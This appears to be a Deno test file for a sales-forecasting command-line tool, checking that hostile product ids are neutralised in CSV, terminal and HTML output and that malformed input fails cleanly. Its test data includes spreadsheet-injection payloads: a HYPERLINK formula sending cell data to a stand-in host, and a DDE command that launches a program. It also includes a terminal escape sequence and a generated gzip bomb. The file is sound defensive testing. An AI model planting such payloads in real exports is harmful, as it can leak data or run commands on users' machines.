/**
 * Hostile and careless data (issue 12): nothing reaches a spreadsheet or a terminal as code,
 * nothing outside the documented ranges becomes a number, inputs are read once.
 */
import { join } from "node:path";
import { createHash } from "node:crypto";
import { assert, assertEquals, assertIncludes } from "../helpers/assert.ts";
import { runCli, tempDir } from "../helpers/cli.ts";
import { parseCsvRows } from "../../src/data/csv.ts";
import { readText } from "../../src/io/read_text.ts";
import { formatDaily } from "../../src/data/write_daily.ts";
import { generateSynthetic } from "../../src/data/synthetic.ts";
import { parseIsoDay } from "../../src/data/dates.ts";

const BASELINES = ["--models", "naive,snaive7,ma28"];
const HOSTILE = [
  '=HYPERLINK("http://x.example/?a="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
  "'quoted",
  "P\u001b[2Jx",
];

/** Demo data whose product ids are the hostile ones. */
function hostileData(): string {
  const set = generateSynthetic({
    products: HOSTILE.length,
    days: 120,
    start: parseIsoDay("2023-01-01")!,
    seed: 3,
  });
  return formatDaily({
    ...set,
    products: set.products.map((p, i) => ({ ...p, id: HOSTILE[i] })),
  });
}

Deno.test("hostile ids are neutralised in every CSV of a plan, and read back exactly", async () => {
  const root = await tempDir();
  try {
    const data = join(root.path, "d.csv");
    await Deno.writeTextFile(data, hostileData());
    const out = join(root.path, "plan");
    const plan = await runCli(["plan", "--data", data, ...BASELINES, "--simulate", "--out", out]);
    assertEquals(plan.code, 0, plan.stderr);
    assert(!plan.stdout.includes("\u001b") && !plan.stderr.includes("\u001b"), "terminal safe");
    assertIncludes(plan.stdout, "P\\x1b[2Jx");
    for await (const entry of Deno.readDir(out)) {
      if (!/\.csv(\.gz)?$/.test(entry.name)) continue;
      for (const row of parseCsvRows(await readText(join(out, entry.name)))) {
        for (const cell of row) {
          assert(!/^[=+\-@\t\r]/.test(cell), `${entry.name}: a cell starts a formula: ${cell}`);
        }
      }
    }
    const ids = parseCsvRows(await Deno.readTextFile(join(out, "plan.csv"))).slice(1).map((r) =>
      r[0]
    );
    assertEquals(ids.filter((id) => id.startsWith("'")).length, 5, "all but P… quoted");
    // merge reads the files back (undoing the quote exactly) and writes them again.
    const merged = join(root.path, "merged");
    const merge = await runCli(["merge", "--data", data, "--from", out, "--out", merged]);
    assertEquals(merge.code, 0, merge.stderr);
    for (const name of ["plan.csv", "forecast.csv", "alerts.csv", "backtest.csv.gz"]) {
      assertEquals(
        await Deno.readFile(join(merged, name)),
        await Deno.readFile(join(out, name)),
        name,
      );
    }
    const report = join(root.path, "report");
    const rendered = await runCli([
      "report",
      "--data",
      data,
      "--from",
      out,
      "--no-pdf",
      "--out",
      report,
    ]);
    assertEquals(rendered.code, 0, rendered.stderr);
    const html = await Deno.readTextFile(join(report, "report.html"));
    assertIncludes(html, "&#39;quoted");
    assertIncludes(html, "=HYPERLINK(&quot;http://x.example/?a=&quot;&amp;A1,&quot;click&quot;)");
    // The data file itself keeps ids as they are: it is an input.
    assertIncludes(await Deno.readTextFile(data), "\n2023-01-01,@SUM(1),");
  } finally {
    await root.cleanup();
  }
});

Deno.test("out-of-range and malformed numbers and dates are one-line errors, exit 2", async () => {
  const root = await tempDir();
  try {
    const cases: [string, string][] = [
      ["2023-01-01,P1,1e308,0", "10^12"],
      ["2023-01-01,P1,0x10,0", '"0x10"'],
      ["0023-06-15,P1,5,0", "1900-01-01"],
      ["9999-12-31,P1,5,0", "2199-12-31"],
    ];
    for (const [row, part] of cases) {
      const data = join(root.path, "bad.csv");
      await Deno.writeTextFile(data, `date,product_id,sales,returns\n${row}\n`);
      const run = await runCli(["validate", "--data", data]);
      assertEquals(run.code, 2, run.stderr);
      assertIncludes(run.stderr, "bad.csv:2");
      assertIncludes(run.stderr, part);
    }
    const stock = join(root.path, "stock.csv");
    await Deno.writeTextFile(stock, "product_id,on_hand\nP001,0x10\n");
    const data = join(root.path, "d.csv");
    assertEquals(
      (await runCli(["generate", "--products", "1", "--days", "60", "--out", data])).code,
      0,
    );
    const onHand = await runCli([
      "plan",
      "--data",
      data,
      "--on-hand",
      stock,
      "--out",
      `${root.path}/p`,
    ]);
    assertEquals(onHand.code, 2, onHand.stderr);
    assertIncludes(onHand.stderr, "stock.csv:2");
  } finally {
    await root.cleanup();
  }
});

Deno.test("data from a pipe is read once: the fingerprint is of its bytes, a FIFO never hangs", async () => {
  const root = await tempDir();
  try {
    const text = formatDaily(generateSynthetic({ products: 1, days: 90, start: 19358, seed: 1 }));
    const fifo = join(root.path, "pipe.csv");
    assert((await new Deno.Command("mkfifo", { args: [fifo] }).output()).success);
    const out = join(root.path, "plan");
    const running = runCli(["plan", "--data", fifo, ...BASELINES, "--quiet", "--out", out]);
    const writer = await Deno.open(fifo, { write: true });
    await writer.write(new TextEncoder().encode(text));
    writer.close();
    const run = await running;
    assertEquals(run.code, 0, run.stderr);
    const summary = JSON.parse(await Deno.readTextFile(join(out, "summary.json")));
    assertEquals(summary.data.sha256, createHash("sha256").update(text).digest("hex"));
  } finally {
    await root.cleanup();
  }
});

Deno.test("a gzip bomb is a one-line error, not a memory blow-up", async () => {
  const root = await tempDir();
  try {
    const bomb = join(root.path, "bomb.csv.gz");
    const zeros = new Blob([new Uint8Array(256 * 1024 ** 2)]).stream();
    await Deno.writeFile(bomb, zeros.pipeThrough(new CompressionStream("gzip")));
    const run = await runCli(["validate", "--data", bomb]);
    assertEquals(run.code, 2, run.stderr);
    assertEquals(run.stderr.trim().split("\n").length, 1);
    assert(run.stderr.length < 300, run.stderr);
    assertIncludes(run.stderr, "longer than");
  } finally {
    await root.cleanup();
  }
});

Deno.test("usage errors are exit 2 with one line, naming what to do", async () => {
  const root = await tempDir();
  try {
    const data = join(root.path, "d.csv");
    await Deno.writeTextFile(data, "date,product_id,sales,returns\n2023-01-01,P1,5,0\n");
    const file = join(root.path, "f.txt");
    await Deno.writeTextFile(file, "x");
    const cases: [string[], string][] = [
      [
        ["forecast", "--data", data, "--model", "ets", "--out", `${root.path}/o.csv`],
        "--model auto",
      ],
      [["forecast", "--data", data, "--models-dir", file, "--model", "naive"], "--models-dir"],
      [["forecast", "--data", data, "--products", "", "--model", "naive"], "--products"],
      [["plan", "--data", data, "--out", "/"], "root directory"],
    ];
    for (const [args, part] of cases) {
      const run = await runCli(args);
      assertEquals(run.code, 2, `${args.join(" ")}: ${run.stderr}`);
      assertEquals(run.stderr.trim().split("\n").length, 1, run.stderr);
      assertIncludes(run.stderr, part);
    }
  } finally {
    await root.cleanup();
  }
});

Deno.test("a product with returns and no sales: return rate n/a and the high-return alert", async () => {
  const root = await tempDir();
  try {
    const set = generateSynthetic({ products: 2, days: 120, start: 19358, seed: 5 });
    const [a, b] = set.products;
    const noSales = { ...b, id: "ONLY-RETURNS", sales: new Float64Array(b.sales.length) };
    const data = join(root.path, "d.csv");
    await Deno.writeTextFile(data, formatDaily({ ...set, products: [a, noSales] }));
    const out = join(root.path, "r");
    const run = await runCli(["report", "--data", data, ...BASELINES, "--no-pdf", "--out", out]);
    assertEquals(run.code, 0, run.stderr);
    const alerts = parseCsvRows(await Deno.readTextFile(join(out, "alerts.csv")));
    assert(
      alerts.some((row) => row[0] === "ONLY-RETURNS" && row[2] === "high-return-rate"),
      JSON.stringify(alerts),
    );
    assertIncludes(await Deno.readTextFile(join(out, "report.html")), "n/a");
  } finally {
    await root.cleanup();
  }
});
